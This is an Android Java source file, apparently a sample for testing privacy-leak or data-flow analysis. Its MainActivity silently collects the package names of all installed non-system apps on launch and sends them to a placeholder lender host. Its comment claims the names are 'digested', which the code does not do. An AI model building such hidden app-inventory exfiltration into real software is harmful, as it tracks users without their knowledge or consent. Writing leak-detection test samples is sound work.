package com.example.flows.apps_filtered;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;

/** Names of installed apps are filtered, joined and digested for a query. */
public class MainActivity extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        StringBuilder text = new StringBuilder("https://api.lender.example/r?apps=");
        for (PackageInfo each : getPackageManager().getInstalledPackages(0)) {
            if ((each.applicationInfo.flags & ApplicationInfo.FLAG_SYSTEM) == 0) {
                text.append(each.packageName).append(',');
            }
        }
        try {
            new URL(text.toString()).openConnection().connect();
        } catch (IOException e) {
            Log.w("x", "failed");
        }
    }
}
